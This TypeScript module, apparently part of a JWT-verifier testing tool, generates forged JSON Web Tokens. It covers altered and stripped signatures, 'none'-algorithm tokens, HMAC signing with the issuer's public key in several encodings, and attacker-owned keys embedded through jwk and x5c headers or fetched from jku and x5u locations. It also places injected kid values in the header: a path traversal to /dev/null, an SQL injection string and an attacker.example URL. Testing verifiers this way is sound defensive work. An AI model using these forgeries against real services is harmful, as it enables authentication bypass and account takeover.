import { createHmac, createPublicKey, type JsonWebKey } from 'node:crypto';
import { exportJWK, generateKeyPair, type JWK } from 'jose';
import { encodePart, signJwt, type TakenApart } from '../jwt.ts';

/** A token that nobody but its issuer can have made, and that somebody else has. */
export interface Forgery {
  what: string;
  text: string;
}

type Header = Record<string, unknown>;

const unsigned = ({ claims }: TakenApart, header: Header): string => `${encodePart(header)}.${encodePart(claims)}`;

/** A symmetric signature, with any secret, an empty one too. */
function withHmac(jwt: TakenApart, header: Header, secret: Buffer | string): string {
  const bits = String(header['alg']).slice(2);
  const input = unsigned(jwt, header);
  return `${input}.${createHmac(`sha${bits}`, secret).update(input).digest('base64url')}`;
}

/** A right token that was changed after it was signed. */
export function changedTokens({ header, claims, parts }: TakenApart): Forgery[] {
  const [head, body, signature] = parts;
  const middle = Math.floor(signature.length / 2);
  const other = signature[middle] === 'A' ? 'B' : 'A';
  return [
    { what: 'a token with another payload', text: `${head}.${encodePart({ ...claims, sub: 'somebody-else' })}.${signature}` },
    { what: 'a token with another header', text: `${encodePart({ ...header, rolecall: true })}.${body}.${signature}` },
    { what: 'a token with another signature', text: `${head}.${body}.${signature.slice(0, middle)}${other}${signature.slice(middle + 1)}` },
    { what: 'a token with half of its signature', text: `${head}.${body}.${signature.slice(0, middle)}` },
    { what: 'a token without its signature', text: `${head}.${body}.` },
    { what: 'a token with two signatures', text: `${head}.${body}.${signature}.${signature}` },
  ];
}

/** Signed by nobody. */
export function unsignedTokens(jwt: TakenApart): Forgery[] {
  const names = ['none', 'None', 'NONE', 'nOnE'];
  return [
    ...names.map((alg) => ({ what: `an unsigned token (alg "${alg}")`, text: `${unsigned(jwt, { ...jwt.header, alg })}.` })),
    {
      what: 'an unsigned token with the signature of a right one',
      text: `${unsigned(jwt, { ...jwt.header, alg: 'none' })}.${jwt.parts[2]}`,
    },
    { what: 'an unsigned token without an algorithm', text: `${unsigned(jwt, { ...jwt.header, alg: undefined })}.` },
  ];
}

/** Signed with a public key as if it were a secret, in each of the forms in which a program may hold it. */
export function confusedTokens(jwt: TakenApart, keys: readonly JWK[]): Forgery[] {
  const key = keys.find(({ kid }) => kid === jwt.header['kid']) ?? keys[0];
  if (key === undefined) return [];
  const pem = createPublicKey({ key: key as JsonWebKey, format: 'jwk' })
    .export({ type: 'spki', format: 'pem' })
    .toString();
  const der = createPublicKey(pem).export({ type: 'spki', format: 'der' });
  const forms: Record<string, Buffer | string> = {
    'as PEM': pem,
    'as PEM without its last line feed': pem.trimEnd(),
    'as PEM with carriage returns': pem.replaceAll('\n', '\r\n'),
    'as DER': der,
    'as the text of its JWK': JSON.stringify(key),
    ...(key.n !== undefined && { 'as its modulus': Buffer.from(key.n, 'base64url') }),
    ...(key.x !== undefined && { 'as its coordinate': Buffer.from(key.x, 'base64url') }),
  };
  return [
    ...Object.entries(forms).map(([form, secret]) => ({
      what: `a token signed with the public key as a secret, ${form}`,
      text: withHmac(jwt, { ...jwt.header, alg: 'HS256' }, secret),
    })),
    { what: 'a token signed with an empty secret', text: withHmac(jwt, { ...jwt.header, alg: 'HS256' }, '') },
    { what: 'a token signed with an empty secret, without kid', text: withHmac(jwt, { ...jwt.header, alg: 'HS512', kid: undefined }, '') },
  ];
}

/** Names of keys that lead somewhere in a careless program. The secret of the first is what a file without contents holds. */
export function oddKeyNames(jwt: TakenApart): Forgery[] {
  const names: Record<string, unknown> = {
    'a path': '../../../../../../dev/null',
    'a part of a query': "x' UNION SELECT 'secret'; --",
    'the name of what every object has': '__proto__',
    'the name of a constructor': 'constructor',
    'a URL': 'https://attacker.example/key',
    'a line feed': 'a\nb',
    'a NUL': 'a\0b',
    'nothing in it': '',
    'a number instead of a text': 7,
    'an object instead of a text': { kid: 'x' },
    'eight thousand characters': 'k'.repeat(8_000),
  };
  const { alg } = jwt.header;
  return Object.entries(names).flatMap(([what, kid]) => [
    { what: `a token whose kid is ${what}`, text: `${unsigned(jwt, { ...jwt.header, alg, kid })}.${jwt.parts[2]}` },
    ...(what === 'a path'
      ? [{ what: 'a token signed with what a path in its kid leads to', text: withHmac(jwt, { ...jwt.header, alg: 'HS256', kid }, '') }]
      : []),
  ]);
}

/** Signed with a key of the attacker's own, which some of them bring along or point to. @param elsewhere where the attacker's keys would be fetched */
export async function attackersTokens({ header, claims }: TakenApart, elsewhere: string): Promise<Forgery[]> {
  const alg = typeof header['alg'] === 'string' ? header['alg'] : 'RS256';
  const { privateKey, publicKey } = await generateKeyPair(alg, { extractable: true });
  const jwk = { ...(await exportJWK(publicKey)), kid: header['kid'], alg, use: 'sig' };
  const der = createPublicKey({ key: jwk as JsonWebKey, format: 'jwk' })
    .export({ type: 'spki', format: 'der' })
    .toString('base64');
  const signed = async (what: string, changes: Header): Promise<Forgery> => ({
    what,
    text: await signJwt(claims, { ...header, ...changes }, privateKey),
  });
  return Promise.all([
    signed('a token signed with another key under the name of the right one', {}),
    signed('a token signed with another key and without its name', { kid: undefined }),
    signed('a token that brings its own key along (jwk)', { jwk }),
    signed('a token that brings its own key along (jwk), without kid', { jwk, kid: undefined }),
    signed('a token that brings a certificate along (x5c)', { x5c: [der], kid: undefined }),
    signed('a token that says where its key is (jku)', { jku: elsewhere }),
    signed('a token that says where its key is (jku), without kid', { jku: elsewhere, kid: undefined }),
    signed('a token that says where its certificate is (x5u)', { x5u: elsewhere }),
  ]);
}
